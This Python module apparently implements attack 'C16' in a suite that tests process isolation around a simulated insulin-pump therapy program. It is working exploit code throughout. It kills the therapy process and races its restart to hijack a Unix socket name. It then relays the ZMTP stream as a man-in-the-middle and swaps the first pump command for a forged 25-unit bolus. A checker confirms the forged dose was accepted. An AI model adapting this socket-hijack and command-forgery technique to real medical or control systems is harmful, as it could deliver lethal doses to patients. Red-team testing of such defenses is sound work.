"""C16: take the place of therapy's gate while it starts, and stand between the two from then on."""

from __future__ import annotations

import contextlib
import os
import select
import signal
import socket
import time

from faults.attack import Attack, Between, CannotTell, Effect, Injection, Parameters, Report
from faults.implant import bodies, messages, victim
from faults.implant.foothold import Foothold, gate_socket
from faults.seen import Observations, bound
from ipc_schemas import codec, wire
from ipc_schemas.insulin_pump import PumpCommand

STRIKE_S_MAX, WAIT_S_MAX, STAY_S_MAX = 1.0, 10.0, 25.0
#: Between two looks: who never lets go of the processor keeps the gate from starting that it waits for.
LOOK_S = 0.000_1
#: Lives of therapy that this may cost: as many as the reference design's restart budget has.
ATTEMPTS_MAX = 3
DOSE_U, DOSE_U_MAX = 25, 25
_CONNECTED = "03"  # as /proc/net/unix writes it
#: How ZMTP 3 begins, and the flags of its frames: 2 is "the length has eight bytes", 1 and 4 are no whole message.
_GREETING_BYTES, _LONG, _NO_MESSAGE = 64, 2, 5


def inject(foothold: Foothold, parameters: Parameters) -> Report:
    """Ends therapy; when its next gate has bound its socket, a socket of ours takes over that name.

    Therapy then connects to us, and we to its gate; if it was faster, it is ended once more. All is passed on but one
    command to the pump, in whose place a bolus of ``dose_u`` (25) goes. ``run_pid``, ``token`` and
    ``therapy_pump_command_port`` are required.
    """
    name = str(parameters.get("victim", "therapy"))
    search = victim.find(name, int(parameters.get("run_pid", 0)))
    if not search.pids:
        os.kill(os.getpid(), 0)  # harmless, and enough to trip a filter
        return victim.not_found(search)
    path = gate_socket(foothold, name)
    struck, strikes = os.pipe()
    if bodies.fork() == 0:
        _stand_between(path, search.pids, parameters, strikes)
    os.close(strikes)
    select.select((struck,), (), (), STRIKE_S_MAX)  # so that therapy is gone before this window ends
    os.close(struck)
    return {"victims": len(search.pids)}


def forged(at_min: int, dose_u: int) -> bytes:
    """The command that goes in place of an honest one."""
    return codec.encode(PumpCommand(messages.FORGED_COMMAND_ID, at_min, 0.0, float(dose_u), 5))


def _stand_between(path: str, victims: tuple[int, ...], parameters: Parameters, strikes: int) -> None:
    """All that the child does. Never returns."""
    try:
        signal.alarm(int(STAY_S_MAX))
        bodies.take_name(str(parameters.get("token", "C16")))
        with contextlib.suppress(OSError):  # only root may be first
            os.setpriority(os.PRIO_PROCESS, 0, -20)
        os.closerange(0, strikes)
        os.closerange(strikes + 1, 256)
        listener = _take_place(path, victims, parameters, strikes)
        therapy, _ = listener.accept()
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as gate:
            gate.connect(f"{path}1")
            port = int(parameters["therapy_pump_command_port"])
            _relay(therapy, gate, Forger(port, min(int(parameters.get("dose_u", DOSE_U)), DOSE_U_MAX)))
    finally:
        os._exit(0)


def _take_place(path: str, victims: tuple[int, ...], parameters: Parameters, strikes: int) -> socket.socket:
    """End therapy until a socket of ours has the name of its next gate's before it connects. Returns that socket."""
    for attempt in range(ATTEMPTS_MAX):
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.settimeout(WAIT_S_MAX)
        listener.bind(f"{path}2")
        listener.listen(4)
        before = _mark(path)
        for pid in victims:
            os.kill(pid, signal.SIGKILL)
        if attempt == 0:
            os.close(strikes)
        _take_name_of(path, before)
        if not _has_peer(path):
            return listener
        listener.close()  # too late: therapy has its gate
        victims = victim.find(str(parameters.get("victim", "therapy")), int(parameters["run_pid"])).pids
    raise TimeoutError("always too late")


def _has_peer(path: str) -> bool:
    """Whether somebody is connected to the socket that was bound as ``path``."""
    with open("/proc/net/unix", encoding="utf-8", errors="replace") as file:
        rows = [line.split() for line in file]
    return any(row[5] == _CONNECTED and row[-1] == path for row in rows if len(row) > 7)


def _mark(path: str) -> tuple[int, int] | None:
    """What tells a new socket of that name from an old one."""
    try:
        now = os.stat(path)
    except OSError:
        return None
    return now.st_ino, now.st_ctime_ns


def _take_name_of(path: str, before: tuple[int, int] | None) -> None:
    """Wait for a new socket, call it ``path`` and 1, and our own, which is called ``path`` and 2, ``path``.

    What is left of the names goes with the run's folder; the gate itself takes ``path`` away, and must find it.
    """
    until_s = time.monotonic() + WAIT_S_MAX
    while time.monotonic() < until_s:
        if _mark(path) not in (None, before):
            os.rename(path, f"{path}1")
            os.rename(f"{path}2", path)
            return
        time.sleep(LOOK_S)
    raise TimeoutError("no new socket")


def _relay(therapy: socket.socket, gate: socket.socket, forger: Forger) -> None:
    """Pass on what either says until one of them goes."""
    until_s = time.monotonic() + STAY_S_MAX
    while time.monotonic() < until_s:
        ready, _, _ = select.select((therapy, gate), (), (), 1.0)
        for end in ready:
            data = end.recv(65_536)
            if not data:
                return
            if end is therapy:
                gate.sendall(forger.passed_on(data))
            else:
                therapy.sendall(data)


class Forger:
    """Reads therapy's ZMTP stream, and puts one command of ours in the place of the first of its own."""

    def __init__(self, port: int, dose_u: int) -> None:
        self._port, self._dose_u = port, dose_u
        self._greeting_left = _GREETING_BYTES
        self._pending = b""
        self._is_done = False

    def passed_on(self, data: bytes) -> bytes:
        """What goes to the gate for these bytes; a frame that is not complete waits."""
        self._pending += data
        out = self._pending[: self._greeting_left]
        self._greeting_left -= len(out)
        self._pending = self._pending[len(out) :]
        while len(self._pending) >= 2:
            flags = self._pending[0]
            size = 8 if flags & _LONG else 1
            end = 1 + size + int.from_bytes(self._pending[1 : 1 + size], "big")
            if len(self._pending) < max(end, 1 + size):
                break
            frame, self._pending = self._pending[:end], self._pending[end:]
            out += frame if flags & _NO_MESSAGE else self._forged(frame, frame[1 + size :])
        return out

    def _forged(self, frame: bytes, message: bytes) -> bytes:
        if self._is_done or len(message) <= wire.HEADER_BYTES:
            return frame
        header, payload = wire.unpack(message)
        if header.port != self._port:
            return frame
        self._is_done = True
        honest = codec.Codec(PumpCommand).decode_loosely(payload)
        changed = wire.pack(header, forged(honest.at_min, self._dose_u))
        return bytes((0, len(changed))) + changed


def effect(seen: Observations, injection: Injection) -> Effect:
    """The forged bolus was admitted as a command of therapy's own."""
    if seen.therapy_outputs is None:
        raise CannotTell("no record of therapy's output")
    dose_u = int(bound(injection, "dose_u", DOSE_U))
    minutes = int(bound(injection, "frame_minutes", 5))
    for one in seen.therapy_outputs:
        if injection.covers(one.frame) and one.payload == forged(one.frame * minutes, dose_u):
            return Effect(
                True, f"A bolus of {dose_u} U went to the pump as {seen.victim}'s own in frame {one.frame}."
            )
    return Effect(False, f"Nothing but {seen.victim}'s own commands went to the pump.")


ATTACK = Attack(
    "C16",
    "It slips between the therapy program and its reader, and changes a dose on the way.",
    effect,
    inject,
    parameters={"dose_u": Between(5, DOSE_U_MAX)},
    needs=("victim", "ports", "token"),
    costs_a_restart=True,
    is_a_race=True,
    shows_within_frames=36,
    walls=("mntns", "seccomp", "pidns", "uid", "landlock", "pidscg"),
)
